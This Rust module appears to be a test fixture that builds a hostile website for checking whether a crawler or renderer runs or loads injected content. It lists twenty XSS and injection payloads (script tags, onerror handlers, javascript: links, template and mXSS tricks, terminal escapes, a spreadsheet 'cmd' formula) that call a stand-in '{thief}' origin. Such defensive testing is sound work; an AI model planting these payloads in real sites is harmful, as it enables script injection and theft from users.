use std::fmt::Write as _;

use crate::{Reply, Site, SiteBuilder};

/// What pages hold that want to run a script, load something or leave their place. Each sets
/// `window.ran`, or asks `{thief}`, a site of its own, for something.
const PAYLOADS: [&str; 20] = [
    "<script>window.ran=1;fetch('{thief}/script')</script>",
    "</title></textarea></style></script></pre><script src={thief}/close.js></script>",
    "\"><img src={thief}/image onerror=\"window.ran=1\">",
    "' autofocus tabindex=0 onfocus='window.ran=1' style='background:url({thief}/background)",
    "<svg onload=\"window.ran=1\"><image href=\"{thief}/svg\"/></svg>",
    "<iframe src=\"{thief}/frame\" srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<object data=\"{thief}/object\"></object><embed src=\"{thief}/embed\">",
    "<link rel=stylesheet href=\"{thief}/sheet\"><style>@import '{thief}/import';</style>",
    "<video poster=\"{thief}/poster\" autoplay><source src=x onerror=\"window.ran=1\"></video>",
    "<base href=\"{thief}/base/\"><meta http-equiv=refresh content=\"0;url={thief}/refresh\">",
    "<form action=\"{thief}/form\"><button formaction=javascript:window.ran=1>x</button></form>",
    "javascript:window.ran=1",
    "[link](javascript:window.ran=1) ![image]({thief}/markdown.png) <{thief}/auto>",
    "[a]: {thief}/reference 'x' onerror=window.ran=1\n![a][a]",
    "```\n</code></pre><script>window.ran=1</script>\n```",
    "&lt;script&gt;window.ran=1&lt;/script&gt;&#60;img src=x onerror=window.ran=1&#62;",
    "{{constructor.constructor('window.ran=1')()}}${window.ran=1}",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph>",
    "<a href=\"{thief}/ping\" ping=\"{thief}/pinged\" download>x</a>\u{202e}\u{1b}]0;owned\u{7}",
    "=cmd|' /C calc'!A1",
];

/// The payloads, with the origin of the site that wants to be asked.
pub fn payloads(thief: &str) -> Vec<String> {
    PAYLOADS
        .iter()
        .map(|payload| payload.replace("{thief}", thief))
        .collect()
}

/// A site that holds each payload wherever a page, a header, an address, robots.txt or a sitemap
/// can hold a text: as text that is shown, and as the markup that it is.
pub fn hostile_site(thief: &str) -> SiteBuilder {
    let payloads = payloads(thief);
    let mut robots = String::from("User-agent: *\nSitemap: {origin}/map.xml\n");
    let mut map = String::from(
        "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><!-- <script>window.ran=1</script> -->\n",
    );
    let mut builder = Site::builder();
    for (number, payload) in payloads.iter().enumerate() {
        let (text, line) = (
            escaped(payload),
            payload.replace(['\n', '\u{1b}', '\u{7}'], " "),
        );
        let _ = writeln!(robots, "Disallow: /closed/{line} # {line}");
        for path in [
            format!("/page/{number}"),
            format!("/moved/{number}"),
            format!("/named/{text}?q={text}"),
        ] {
            let _ = writeln!(
                map,
                "<url><loc>{{origin}}{path}</loc><lastmod>{text}</lastmod><priority>{text}</priority></url>"
            );
        }
        let ascii: String = line.chars().filter(char::is_ascii).collect();
        let page = Reply::html(page(payload, &text)).header("x-note", &ascii);
        builder = builder.route(&format!("/page/{number}"), page).route(
            &format!("/moved/{number}"),
            Reply::redirect(302, &format!("/gone?{ascii}")),
        );
    }
    map.push_str("</urlset>");
    builder
        .robots(&robots)
        .file("/map.xml", "application/xml", &map)
        .otherwise(|path| {
            let named = path.starts_with("/named/");
            named.then(|| {
                Reply::html("<title>Named</title><main><h1>Named</h1><p>Hostile name.</p></main>")
            })
        })
}

fn page(payload: &str, text: &str) -> String {
    format!(
        "<!doctype html><html lang=\"{text}\"><head><title>{text}</title>\
         <meta name=\"description\" content=\"{text}\"><meta property=\"og:title\" content=\"{text}\">\
         <meta property=\"og:image\" content=\"{text}\"></head><body><main>\
         <h1>Hostile {text}</h1><p>{text}</p><pre><code class=\"language-{text}\">{text}</code></pre>\
         <p><a href=\"/named/{text}?{text}#{text}\" title=\"{text}\">{text}</a>\
         <img src=\"{text}\" alt=\"{text}\"></p><table><tr><td>{text}</td></tr></table>\
         {payload}</main></body></html>"
    )
}

/// The payload as a text in HTML or XML.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
        .replace(['\u{1b}', '\u{7}'], " ")
}
